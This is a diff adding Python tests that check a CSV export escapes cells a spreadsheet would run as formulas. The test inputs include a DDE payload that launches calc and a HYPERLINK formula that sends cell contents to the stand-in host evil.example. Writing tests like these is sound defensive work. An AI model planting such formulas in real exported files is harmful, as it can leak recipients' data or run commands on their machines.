@@ -7,10 +7,12 @@ import io
 
 import httpx
 import pytest
+import redis.asyncio as aioredis
 
 from infraprism.api import csv_export
 from infraprism.api.planner import GroupBy
-from tests.api.helpers import RANGE
+from infraprism.settings import Settings
+from tests.api.helpers import RANGE, load_events, sample_event
 
 
 def test_render_quotes_flattens_and_writes_nulls_and_booleans():
@@ -96,3 +98,51 @@ async def test_csv_on_every_endpoint(with_sample_events: httpx.AsyncClient, path
     rows = _csv(await with_sample_events.get(path, params={**params, "format": "csv"}))
     assert rows[0][: len(columns)] == columns
     assert len(rows) - 1 == len(as_json["data"])
+
+
+DANGEROUS_TEXT = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x", "a, b")', "-\n=1"]
+SAFE_TEXT = ["acme", "globex, inc", 'say "hi"', "two\r\nlines", " =1", "1-2", "", "'=already"]
+
+
+@pytest.mark.parametrize("text", DANGEROUS_TEXT)
+def test_render_neutralises_text_a_spreadsheet_would_run_as_a_formula(text):
+    (header, line) = csv.reader(io.StringIO(csv_export.render(["entity_id", "n"], [{"entity_id": text, "n": 1}])))
+    assert header == ["entity_id", "n"]
+    assert line == ["'" + text, "1"]
+
+
+@pytest.mark.parametrize("text", SAFE_TEXT)
+def test_render_leaves_other_text_as_it_is_and_quotes_it(text):
+    (_, line) = csv.reader(io.StringIO(csv_export.render(["entity_id"], [{"entity_id": text}])))
+    assert line == [text]
+
+
+@pytest.mark.parametrize("number", [-1.5, -1, -0.000001, 0, 3, 10**22, -(2**70)])
+def test_render_leaves_negative_and_other_numbers_numbers(number):
+    (_, line) = csv.reader(io.StringIO(csv_export.render(["cost", "id"], [{"cost": number, "id": "-x"}])))
+    assert line == [str(number), "'-x"]
+    assert type(number)(line[0]) == number
+
+
+def test_render_neutralises_nested_text_and_leaves_booleans_and_nulls():
+    text = csv_export.render(
+        ["a.b", "flag", "missing"], [{"a": {"b": "=cmd|' /C calc'!A0"}, "flag": True, "missing": None}]
+    )
+    assert list(csv.reader(io.StringIO(text))) == [["a.b", "flag", "missing"], ["'=cmd|' /C calc'!A0", "true", ""]]
+
+
+async def test_csv_over_the_api_neutralises_an_entity_id_that_starts_with_equals(
+    authed: httpx.AsyncClient, settings: Settings, project: str, redis_client: aioredis.Redis
+):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1, "click, me")'
+    await load_events(
+        redis_client, settings, [sample_event(project, 0, evil, 1.5), sample_event(project, 1, "acme", 2)]
+    )
+    params = {**RANGE, "group_by": "entity", "format": "csv"}
+    rows = _csv(await authed.get("/v1/analytics/costs", params=params))
+    by_id = {line[1]: line for line in rows[1:]}
+    assert set(by_id) == {"'" + evil, "acme"}
+    assert float(by_id["'" + evil][2]) == 1.5
+    assert int(by_id["acme"][3]) == 1
+    as_json = (await authed.get("/v1/analytics/costs", params={**RANGE, "group_by": "entity"})).json()
+    assert evil in {row["entity_id"] for row in as_json["data"]}  # JSON carries the id as it is
